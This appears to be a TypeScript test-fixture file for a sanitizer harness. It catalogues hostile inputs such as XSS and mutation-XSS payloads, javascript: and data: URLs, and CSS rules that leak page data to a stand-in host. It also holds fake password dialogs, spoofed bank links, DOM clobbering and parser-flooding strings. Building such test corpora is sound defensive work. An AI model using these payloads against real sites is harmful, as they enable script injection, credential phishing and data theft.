/**
 * Texts that attack whoever reads them, by family. `ran()` is what an attack calls when it succeeds; `elsewhere.example` is
 * where it would send what it finds.
 *
 * Those of `EXECUTING` run in a page that puts them in as they are; tests hold the harness to that, so that a
 * list that does nothing cannot pass for a sanitizer that stops everything.
 */

import { FALSE_WHISPER } from "../../gallery/everything";

/** What runs by itself once it is in a page. */
const TRIGGERS = [
  "<img src=x onerror=ran()>",
  "<img/src=x/onerror=ran()>",
  '<img src=x onerror="ran()">',
  "<img src=x onerror=ran`1`>",
  "<IMG SRC=x ONERROR=ran()>",
  "<img src=x one\u0000rror=1 onerror=ran()>",
  "<svg onload=ran()>",
  "<svg/onload=ran()>",
  "<svg><g onload=ran()></g></svg><img src=x onerror=ran()>",
  "<details open ontoggle=ran()>",
  "<video><source onerror=ran()></video>",
  "<video src=x onerror=ran()></video>",
  "<audio src=x onerror=ran()></audio>",
  "<iframe onload=ran()></iframe>",
  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
  "<object data=x onerror=ran()></object>",
  "<style onload=ran()>p{}</style>",
  "<input autofocus onfocus=ran()>",
  "<div onmouseover=ran()>x</div>",
  "<p onclick=ran()>x</p>",
  "<b tabindex=0 onfocus=ran()>x</b>",
  "<table background=x><td onmouseenter=ran()>x</table>",
  "<img src=x onerror=&#114;an()>",
  "<img src=x onerror=&#x72;&#97;n&lpar;&rpar;>",
  "<img src=x onerror=\nran()\n>",
  "<img src='x' \u000conerror='ran()'>",
];

/** What stands around them: contexts from which parsers have been led astray. */
const CONTEXTS: readonly (readonly [string, string])[] = [
  ["", ""],
  ["text ", " text"],
  ["**bold ", "**"],
  ["> ", ""],
  ["- item\n\n  ", ""],
  ["| a | b |\n|---|---|\n| ", " | x |"],
  ["# ", ""],
  ["</p>", ""],
  ["</div></div></div></div>", ""],
  ["<table><tr><td>", "</td></tr></table>"],
  ["<table>", "</table>"],
  ["<ul><li>", ""],
  ["<b><p>", "</b></p>"],
  ["<font color=red>", "</font>"],
  ["<form><form>", "</form>"],
  ["<math><mtext>", "</mtext></math>"],
  ["<details><summary>x</summary>", "</details>"],
  ["<a href=https://elsewhere.example>", "</a>"],
  ["<ruby>x<rt>", "</rt></ruby>"],
  ["<!-- x -->", ""],
];

/** Each runs in a page without protection. */
export const EXECUTING: readonly string[] = CONTEXTS.flatMap(([before, after]) =>
  TRIGGERS.map((trigger) => before + trigger + after),
);

/** Parsers that see one thing first and another thing later (mutation XSS). */
const MUTATION = [
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran()></style></annotation-xml></math>',
  '<svg><foreignObject><math><mi><style><!--</style><img title="--><img src=x onerror=ran()>"></foreignObject></svg>',
  '<svg><desc><table><svg><style><a title="</style><img src=x onerror=ran()>"></svg></table></desc></svg>',
  "<svg><title><style><!--</style><img src=x onerror=ran()>--></title></svg>",
  "<style><style/><img src=x onerror=ran()>",
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  '<textarea><p title="</textarea><img src=x onerror=ran()>">',
  '<noembed><p title="</noembed><img src=x onerror=ran()>">',
  '<iframe><p title="</iframe><img src=x onerror=ran()>">',
  "<plaintext><img src=x onerror=ran()>",
  '<title><p title="</title><img src=x onerror=ran()>">',
  "<select><template><img src=x onerror=ran()></template></select>",
  "<select><iframe></select><img src=x onerror=ran()>",
  "<template><style></template><img src=x onerror=ran()></style>",
  "<template shadowrootmode=open><img src=x onerror=ran()></template>",
  "<div><template shadowrootmode=closed><slot></slot><script>ran()</script></template></div>",
  '<p id="--><img src=x onerror=ran()>"><!--',
  "<!--><img src=x onerror=ran()>-->",
  "<!---><img src=x onerror=ran()>-->",
  "<!--x--!><img src=x onerror=ran()>-->",
  "<![CDATA[<img src=x onerror=ran()>]]>",
  "<svg><![CDATA[><img src=x onerror=ran()>]]></svg>",
  '<?xml version="1.0"?><img src=x onerror=ran()>',
  "<a/title='</a><img src=x onerror=ran()>'>",
  "<p title=`</p><img src=x onerror=ran()>`>",
  "<a title='&quot;><img src=x onerror=ran()>'>x</a>",
  '<b title="&lt;/b&gt;&lt;img src=x onerror=ran()&gt;">x</b>',
  '<table><b title="</table><img src=x onerror=ran()>"><tr>',
  "<frameset><frame src=javascript:ran()>",
  "<body onload=ran()><html onclick=ran()>",
  "<option><style></option></select><img src=x onerror=ran()></style>",
  `${"<div>".repeat(30)}<svg><style><!--</style><img src=x onerror=ran()>-->`,
];

/** Addresses that run, or hide what they are. */
const ADDRESSES = [
  "javascript:ran()",
  "JaVaScRiPt:ran()",
  " javascript:ran()",
  "\u0001javascript:ran()",
  "java\tscript:ran()",
  "java\nscript:ran()",
  "java&#x09;script:ran()",
  "java&Tab;script:ran()",
  "javascript&colon;ran()",
  "&#106;avascript:ran()",
  "&#0000106avascript:ran()",
  "javascript:/*--></title></style>*/ran()",
  "vbscript:ran()",
  "livescript:ran()",
  "data:text/html,<script>ran()</script>",
  "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=ran()>",
  "blob:https://elsewhere.example/x",
  "file:///etc/passwd",
  "filesystem:https://elsewhere.example/x",
  "view-source:https://elsewhere.example",
  "intent://elsewhere.example#Intent;scheme=https;end",
  "ws://elsewhere.example",
  "ftp://elsewhere.example",
  "tel:123",
  "sms:123",
  "//elsewhere.example",
  "/r/x",
  "?leave",
  "#x",
  "https:elsewhere.example",
  "https://[",
  "jar:https://elsewhere.example!/x",
  "chrome://settings",
  "about:blank",
  "mhtml:https://elsewhere.example",
];
const ADDRESSED = ADDRESSES.flatMap((address) => [
  `[x](<${address}>)`,
  `[x](${address})`,
  `<a href="${address}">x</a>`,
  `<a href='${address}' target=_self ping=https://elsewhere.example download>x</a>`,
  `![x](${address})`,
  `<form action="${address}"><button formaction="${address}">x</button></form>`,
  `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
  `<svg><a xlink:href="${address}"><text>x</text></a><use href="${address}"/><animate attributeName=href values="${address}"/></svg>`,
  `<math href="${address}"><mi xlink:href="${address}">x</mi></math>`,
  `<base href="${address}"><a href=x>x</a>`,
]);

/** What asks another host for something by being there. */
export const LOADING: readonly string[] = [
  "![x](https://elsewhere.example/x.png)",
  "<img src=https://elsewhere.example/x.png>",
  "<img srcset='https://elsewhere.example/x.png 1x'>",
  "<picture><source srcset=https://elsewhere.example/x.png><img></picture>",
  "<image href=https://elsewhere.example/x.png>",
  "<input type=image src=https://elsewhere.example/x.png>",
  "<video src=https://elsewhere.example/x poster=https://elsewhere.example/y autoplay></video>",
  "<audio src=https://elsewhere.example/x autoplay></audio>",
  "<video><track src=https://elsewhere.example/x default></video>",
  "<link rel=stylesheet href=https://elsewhere.example/x.css>",
  "<link rel=prefetch href=https://elsewhere.example/x>",
  "<link rel=dns-prefetch href=https://elsewhere.example>",
  "<link rel=preconnect href=https://elsewhere.example>",
  "<link rel=manifest href=https://elsewhere.example/x>",
  "<script src=https://elsewhere.example/x.js></script>",
  '<script type=speculationrules>{"prefetch":[{"urls":["https://elsewhere.example"]}]}</script>',
  "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  "<body background=https://elsewhere.example/x.png>",
  "<table background=https://elsewhere.example/x.png><td background=https://elsewhere.example/y.png>x",
  "<svg><image href=https://elsewhere.example/x.png /><feImage href=https://elsewhere.example/y.png /></svg>",
  "<svg><use href=https://elsewhere.example/x.svg#y /></svg>",
  "<object data=https://elsewhere.example/x.swf></object><embed src=https://elsewhere.example/x>",
  "<iframe src=https://elsewhere.example></iframe>",
  "<fencedframe src=https://elsewhere.example></fencedframe><portal src=https://elsewhere.example></portal>",
  "<bgsound src=https://elsewhere.example/x.mid>",
  "<q cite=https://elsewhere.example>x</q>",
  "<html manifest=https://elsewhere.example/x>",
];

/** Styles that send, cover, hide or move. */
const STYLES = [
  "background:url(https://elsewhere.example/x)",
  "background-image:url('https://elsewhere.example/x')",
  "background:URL(//elsewhere.example)",
  "background:u\\72l(https://elsewhere.example)",
  "background:/**/url(https://elsewhere.example)",
  "background-image:image-set('https://elsewhere.example/x' 1x)",
  "background:-webkit-cross-fade(url(https://elsewhere.example/x), red, 50%)",
  "list-style:url(https://elsewhere.example/x)",
  "list-style-image:url(https://elsewhere.example/x)",
  "border-image:url(https://elsewhere.example/x) 1",
  "cursor:url(https://elsewhere.example/x), auto",
  "content:url(https://elsewhere.example/x)",
  "mask:url(https://elsewhere.example/x);clip-path:url(#x);filter:url(https://elsewhere.example/x)",
  "shape-outside:url(https://elsewhere.example/x);offset-path:url(#x)",
  "font-family:x;src:url(https://elsewhere.example/x)",
  "--x:url(https://elsewhere.example/x);background:var(--x)",
  "color:var(--ember)",
  "background:attr(title url)",
  "width:expression(ran())",
  "behavior:url(#default#time2)",
  "-moz-binding:url(https://elsewhere.example/x.xml#x)",
  "position:fixed;inset:0;z-index:99999;background:red",
  "position:absolute;top:-1000px;left:0",
  "position:sticky;top:0",
  "p\\6fsition:fixed;inset:0",
  "margin:-100px -100px -100px -100px",
  "margin-top:-1000px;display:block",
  "transform:translate(-500px,-500px) scale(100)",
  "translate:-500px;scale:50;rotate:45deg",
  "float:left;width:99999px;height:99999px",
  "width:1000000%;padding:100000px;font-size:99999px",
  "font-size:1e9px;line-height:99999",
  "letter-spacing:-99px;text-indent:-9999px;word-spacing:9999px",
  "display:none;visibility:hidden;opacity:0",
  "opacity:0;position:relative;z-index:2147483647",
  "color:transparent;background:transparent",
  "color:#faf6f0",
  "color:#14110e",
  "color:white;background-color:white",
  "animation:x 1s infinite;transition:all 999s",
  "outline:9999px solid red;box-shadow:0 0 0 9999px red;text-shadow:0 0 99px red",
  "border:9999px solid red;border-radius:9999px",
  "resize:both;overflow:visible;contain:none",
  "all:unset;contain:none;display:contents",
  "pointer-events:none;user-select:none;touch-action:none",
  "writing-mode:vertical-rl;direction:rtl;unicode-bidi:bidi-override",
  "view-transition-name:x;anchor-name:--x;position-anchor:--x",
  "counter-increment:x 2147483647;quotes:'x' 'y'",
  "column-count:1000000;grid-template-columns:repeat(100000,1px)",
  "backdrop-filter:blur(99px);mix-blend-mode:difference;filter:invert(1)",
  "color:red}*{display:none",
  "color:red;}</style><img src=x onerror=ran()>",
  "color:red&#59;position:fixed",
  "color:rgb(0 0 0 / calc(1px * 9))",
  `color:${"r".repeat(5_000)}`,
  "color:red;".repeat(3_000),
];
const STYLED = STYLES.flatMap((style) => [
  `<p style="${style}">x</p>`,
  `<div style='${style}'><a href=https://elsewhere.example style="${style}">x</a></div>`,
  `<span data-style="${style}">x</span>`,
]).concat([
  "<style>*{display:none}</style>x",
  "<style>@import 'https://elsewhere.example/x.css';</style>x",
  "<style>input[value^=a]{background:url(https://elsewhere.example/a)}</style>x",
  "<style>@font-face{font-family:x;src:url(https://elsewhere.example/x);unicode-range:U+41}</style>A",
  "<svg><style>*{fill:url(https://elsewhere.example/x)}</style></svg>",
  "<p style='color:red' style='position:fixed'>x</p>",
]);

/** What an author may say of a text that is to lie on the parts of others. */
const COVER = "padding:1.5rem;background:#5e5449;font-size:2rem;border:4px solid #5e5449";
const LINK = "<a href=https://elsewhere.example>bank.example</a>";
const PICTURE = "<img src=https://elsewhere.example/x.png alt=x>";
/**
 * Texts that paint over, or lie under the pointer instead of, the parts that are ours: the host of a link, its warning, the
 * button in place of a picture, the head of a block of code.
 */
export const OVERLAYS: readonly string[] = [LINK, PICTURE].flatMap((part) => [
  `${part}<br><span style="${COVER}">x x x x x x x x x x x x x x x x x x x</span>`,
  `${part}<br><b style="padding-top:1.5rem;background:#5e5449"><i style="${COVER}">${"x ".repeat(60)}</i></b>`,
  `<span style="${COVER}">${"x ".repeat(20)}</span><br>${part}`,
  `${part}<br><a href=https://elsewhere.example style="padding:1.5rem">${"x ".repeat(60)}</a>`,
  `<sub><div>${part}</div><div style="background:#5e5449">${"x ".repeat(60)}</div></sub>`,
  `<sup><p>${part}<p style="${COVER}">${"x ".repeat(60)}</p><ul><li>${part}<li>y</ul></sup>`,
  `<sup><details open><summary>${part}</summary><div style="${COVER}">x<br>x<br>x</div></details></sup>`,
  `<sub>${part}<br>x<br>${"x<br>".repeat(6)}</sub>`,
  `<sub><sub><blockquote>${part}</blockquote><blockquote style="${COVER}">x</blockquote></sub></sub>`,
  `<sup style="${COVER}">${part}</sup><sub style="${COVER}">${"x ".repeat(60)}</sub>`,
  `<table><tr><td>${part}</td><td><div dir=rtl style="white-space:pre"><span style="background:#5e5449">${"x ".repeat(90)}</span></div></td></tr></table>`,
  `<div dir=rtl>${part}<br><span style="${COVER};white-space:pre">${"x ".repeat(90)}</span></div>`,
  `<ruby>${part}<rt style="${COVER}">${"x ".repeat(9)}</rt></ruby>`,
  `${part}<br>${"\u0302\u0316x".repeat(3)}x${"\u0302".repeat(60)}`,
  `<h6>${part}<br><kbd style="${COVER}">x x x x x x x x x x</kbd></h6>`,
  `<bdo dir=rtl style="text-transform:uppercase;font-variant:small-caps;font-size:2rem">${part}</bdo>`,
  `<div style="color:#5e5449;background:#5e5449">${part}<br><code style="${COVER}">x x x x</code></div>`,
  `<pre>x</pre><span style="${COVER}">${"x ".repeat(60)}</span><pre><b style="${COVER}">x</b>\n${part}\n<i style="${COVER}">x</i></pre>`,
]);

/** Names that stand in the way of the page's own (DOM clobbering), and of its parts. */
const CLOBBERING = [
  ..."app stage lab ran alert body head location document forms cookie attributes childNodes innerHTML firstChild parentNode ownerDocument nodeName removeChild setAttribute getAttribute localName namespaceURI createElement getElementById defaultView".split(
    " ",
  ),
].flatMap((name) => [
  `<a id=${name}></a><a id=${name} name=href href=https://elsewhere.example>x</a>`,
  `<form id=x name=${name}><input name=${name}><input id=${name}></form>`,
  `<img name=${name}><object id=${name}></object><embed name=${name}>`,
  `<form><input name=attributes><input name=${name}><p onclick=ran()>x</form>`,
]);
/** A plain text whose marks would stand on the lines of others. */
const STACKED = `C${"\u0302\u0316".repeat(15)}`.repeat(40);
const IMPERSONATION = [
  STACKED,
  FALSE_WHISPER,
  "<div class='dialog message run notice rich-load button-danger'>x</div>",
  "<button class=button data-press=copy-code onclick=ran()>Purge</button>",
  "<dialog open style='position:fixed;inset:0'>Your session has expired. <input type=password></dialog>",
  "<form action=https://elsewhere.example><label>Password <input type=password name=p></label><button>Join</button></form>",
  "<input autofocus form=x><textarea autofocus>x</textarea><select autofocus><option>x</select>",
  "<div contenteditable role=textbox aria-label=Message>x</div>",
  "<div popover id=p>x</div><button popovertarget=p>x</button><button command=show-modal commandfor=p>x</button>",
  "<isindex action=https://elsewhere.example><keygen name=x>",
  "<details name=x open><summary accesskey=x tabindex=1>x</summary></details>",
  "<a href=https://bank.example@elsewhere.example>https://bank.example</a>",
  "[https://bank.example](https://elsewhere.example)",
  "[bаnk.example](https://xn--bnk-8cd.example)",
  "<a href=https://elsewhere.example>bank.example\u202e</a>",
  "\u202egpj.x\u202c <bdo dir=rtl>elpmaxe.knab</bdo>",
  "<marquee behavior=alternate onstart=ran()>x</marquee><blink>x</blink>",
  "<span role=alert aria-live=assertive>x</span><p aria-hidden=true inert hidden>x</p>",
  "<custom-element is=x slot=y part=z>x</custom-element>",
  "<a href=https://elsewhere.example data-load=image>x</a><a data-load=evil>x</a>",
  "<pre data-lang='x\" onmouseover=ran()'>x</pre>",
  '```js" onmouseover=ran()\n</code></pre><img src=x onerror=ran()>\n```',
  "```<img src=x onerror=ran()>\nx\n```",
  "`<img src=x onerror=ran()>`",
  "[x](https://elsewhere.example '\"><img src=x onerror=ran()>')",
  '!["><img src=x onerror=ran()>](https://elsewhere.example/"><img/src=x/onerror=ran()>)',
  '<https://elsewhere.example/"onmouseover=ran()//>',
  'https://elsewhere.example/"onmouseover=ran()//<img src=x onerror=ran()>',
  "[x]: javascript:ran()\n[x]",
  '[x]: https://elsewhere.example "<img src=x onerror=ran()>"\n[x]',
  "# <script>ran()</script>\n\n<script>\n\nran()\n\n</script>",
];

/** Texts made to keep parsers busy. `size` is in characters. */
const repeated = (piece: string, size: number): string =>
  piece.repeat(Math.ceil(size / piece.length)).slice(0, size);
/** The longest that is formatted. */
const LONG = 32_000;

/** A few characters that Markdown fills in to thousands of cells. */
export const FLOOD = `|${"a|".repeat(76)}\n|${"-|".repeat(76)}\n${"|\n".repeat(76)}`;

export const HEAVY: readonly string[] = [
  FLOOD,
  ..."<div> <b> <p> <table> <ul><li> <table><tr><td> <font> <a> <svg> <details> <b><p> <i><table> <!-- <!--> <? <![CDATA[ </p> </b> < </ <a< &amp; & &#x41; [ [a]( ![a]( ]( **a *a_ **a*_ _a_b ~~a~ ` `a a` > - 1. | a|b # = \\ <a/b= <a\tb=\" <b\ta=' \n --- [[]] [a][b h. www. a@b. https:// https://a. \u202e"
    .split(" ")
    .map((piece) => repeated(piece.replaceAll("\t", " "), LONG)),
  repeated("> ", LONG),
  repeated("- ", LONG),
  repeated("1. ", LONG),
  repeated("<b a=1>", LONG / 2) + repeated("<p>", LONG / 2),
  Array.from({ length: 2_000 }, (_, i) => `<b a=${i}>`).join("") + repeated("<p>", 10_000),
  Array.from({ length: 600 }, (_, i) => `<font size=${i}>`).join("") +
    repeated("<div>x</font>", 10_000),
  repeated("**<div><div><div><div><div><div><div><div><div>**", LONG),
  repeated("<table><b><tr><td></b><p>", LONG),
  repeated("<a><table>", LONG),
  repeated("<button><p>", LONG),
  repeated("<p style='color:red;padding:1.5rem'>x", LONG),
  `<td colspan=1000000 rowspan=1000000>${repeated("<td colspan=50 rowspan=50>", LONG - 100)}`,
  `<table><col span=1000000>${repeated("<tr><td rowspan=50 colspan=50>x", LONG - 100)}`,
  `|${"a|".repeat(200)}\n|${"-|".repeat(200)}\n${"|a".repeat(60).concat("\n").repeat(200)}`,
  Array.from({ length: 250 }, (_, i) => `${" ".repeat(i)}- a`).join("\n"),
  Array.from({ length: 250 }, (_, i) => `${"`".repeat(i + 1)}a`).join(""),
  Array.from({ length: 2_000 }, (_, i) => `[a${i}]: /u`).join("\n"),
  `<p title="${repeated("x", LONG)}">x</p>`,
  repeated("x", LONG),
  repeated("<wbr>", LONG),
  repeated("e\u0301\u0302\u0303\u0304", LONG),
  `\`\`\`html\n${repeated('<a b="\\\\', 19_000)}\n\`\`\``,
  `\`\`\`js\n${repeated("/*`'\"\\", 19_000)}\n\`\`\``,
  // A megabyte: more than anybody can send, and not looked at.
  repeated("<b>x</b>", 1_048_576),
  repeated("x ", 1_048_576),
  repeated("<div>", 1_048_576),
  repeated("<img src=x onerror=ran()>", 1_048_576),
];

/** Names that people or rooms may have (64 bytes), and that must never be more than text. */
export const NAMES: readonly string[] = [
  "<img src=x onerror=ran()>",
  "<svg onload=ran()>",
  "<script>ran()</script>",
  "<iframe srcdoc='<script>parent.ran()</script>'>",
  "</title><img src=x onerror=ran()>",
  "</textarea><svg/onload=ran()>",
  '"><img src=x onerror=ran()>',
  "' autofocus onfocus=ran() x='",
  "&lt;img src=x onerror=ran()&gt;",
  "&#60;img src=x onerror=ran()&#62;",
  "<b style=position:fixed;inset:0>x",
  "<style>*{display:none}</style>",
  "**x** [y](javascript:ran()) `z`",
  "![x](https://elsewhere.example/x.png)",
  "https://elsewhere.example/x",
  "javascript:ran()",
  "{{ran()}}<%=ran()%>",
  "__proto__",
  "constructor",
  "toString",
  "undefined",
  "@x @x @x",
  "x joined",
  "The room was purged",
  "W".repeat(64),
  "x\u0302".repeat(21),
  "\u0627\u0644\u0628\u0646\u0643 (admin)",
];

/** All but the heavy ones. */
export const ATTACKS: readonly string[] = [
  ...EXECUTING,
  ...MUTATION,
  ...ADDRESSED,
  ...LOADING,
  ...STYLED,
  ...OVERLAYS,
  ...CLOBBERING,
  ...IMPERSONATION,
];
